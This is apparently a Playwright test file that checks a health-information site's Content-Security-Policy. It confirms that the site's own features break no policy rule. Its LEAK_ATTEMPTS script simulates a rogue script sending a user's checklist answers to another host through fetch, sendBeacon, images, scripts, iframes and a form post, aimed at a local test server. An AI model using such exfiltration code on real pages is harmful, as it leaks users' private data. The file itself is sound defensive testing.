"""Privacy the browser enforces: each page's Content-Security-Policy (macros/csp.py).

A script running in a page cannot send anything to another host, and the site's own
features (search, instant navigation, the checklist, glossary tooltips, the body map)
work under the policy without a single violation. The other host is a second local
server on another port: another origin, which 'self' does not cover. It records every
request it gets, so "blocked" means it never heard from the page.
"""

from __future__ import annotations

import http.server
import threading

import pytest
from playwright.sync_api import expect

from support.browser import open_for_instant_navigation
from support.search import open_search_when_ready

# Every violation the page reports, kept on window for the test to read.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(
    {directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition}));
"""

# What a rogue script (or a compromised dependency) might try, to carry answers away.
LEAK_ATTEMPTS = """async target => {
    const outcome = {};
    try { await fetch(target + 'fetch?answers=ticked'); outcome.fetch = 'sent'; }
    catch (error) { outcome.fetch = 'blocked'; }
    outcome.beacon = navigator.sendBeacon(target + 'beacon', 'answers=ticked');
    await new Promise(done => { const img = new Image(); img.onload = img.onerror = done; img.src = target + 'image'; });
    await new Promise(done => {
        const script = document.createElement('script');
        script.onload = script.onerror = done; script.src = target + 'script.js'; document.head.append(script);
    });
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.head.append(inline);
    outcome.inline = window.__inlineRan === true ? 'ran' : 'blocked';
    const frame = document.createElement('iframe');
    frame.src = target + 'frame'; document.body.append(frame);
    return outcome;
}"""


@pytest.fixture(scope="module")
def other_host():
    """(base URL, list of paths requested): a server on another origin that logs every request."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(b"ok")

        do_POST = do_GET

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", hits
    server.shutdown()


def test_without_the_policy_the_other_host_is_reachable(context, other_host):
    """The control: from a page with no policy, the same fetch gets through."""
    url, hits = other_host
    page = context.new_page()  # about:blank: no policy (and no favicon fetch to arrive late)
    assert page.evaluate("target => fetch(target + 'control').then(r => r.text())", url) == "ok"
    assert "/control" in hits
    hits.clear()


def test_a_script_in_the_page_cannot_reach_another_host(context, site_url, other_host):
    url, hits = other_host
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    page.goto(site_url + "help/when-to-get-help/")
    page.locator("form[data-checklist-ready] input[type=checkbox]").first.check()  # answers on the page
    outcome = page.evaluate(LEAK_ATTEMPTS, url)
    page.wait_for_function("() => new Set(window.__violations.map(v => v.directive)).size >= 4")
    # A form posted to another host is stopped too (form-action 'none'): the page stays.
    page.evaluate(
        """target => { const form = document.createElement('form'); form.method = 'post';
        form.action = target + 'form'; document.body.append(form); form.submit(); }""",
        url,
    )
    page.wait_for_function("() => window.__violations.some(v => v.directive === 'form-action')")
    assert page.url.startswith(site_url)
    violations = page.evaluate("window.__violations")
    directives = {violation["directive"] for violation in violations}
    assert outcome["fetch"] == "blocked" and outcome["inline"] == "blocked", outcome
    assert {"connect-src", "img-src", "script-src-elem", "frame-src", "form-action"} <= directives, violations
    assert all(violation["disposition"] == "enforce" for violation in violations)
    assert hits == [], f"the other host heard from the page: {hits}"


@pytest.mark.search_worker
def test_search_navigation_checklist_tooltips_and_body_map_break_no_rule(context, site_url):
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))

    def no_violations(step: str) -> None:
        assert page.evaluate("window.__violations") == [], step

    open_for_instant_navigation(page, site_url)
    no_violations("home page")
    # Search: the worker and the index load under the policy.
    open_search_when_ready(page)
    page.locator(".md-search__input").press_sequentially("caffeine")
    page.locator(".md-search-result__item").first.wait_for()
    no_violations("search")
    page.keyboard.press("Escape")
    # The body map, then instant navigation to the help page.
    page.locator('a.bodymap__site[aria-label="Calves"] ellipse').first.click()
    page.wait_for_url("**/body-sites/hips-and-legs/#calves")
    expect(page.locator('[id="calves"]')).to_be_visible()
    no_violations("body map and instant navigation")
    page.locator(".header-help").first.click()
    page.wait_for_url("**/help/when-to-get-help/#checklist")
    # The checklist: set up by our deferred script after the swap, and answering works.
    form = page.locator("form[data-checklist-ready]")
    form.wait_for()
    form.locator("input[type=checkbox]").first.check()
    expect(page.locator("[data-checklist-bar]")).to_be_visible()
    no_violations("checklist")
    # A glossary tooltip on focus, on a page that uses glossary terms.
    page.goto(site_url + "twitching/twitching-and-als/")
    term = page.locator(".md-content .md-typeset abbr[tabindex='0']").first
    term.focus()
    page.locator("#glossary-tip[role=tooltip]").wait_for(state="visible")
    no_violations("tooltip")
    assert not [error for error in errors if "Content Security Policy" in error], errors
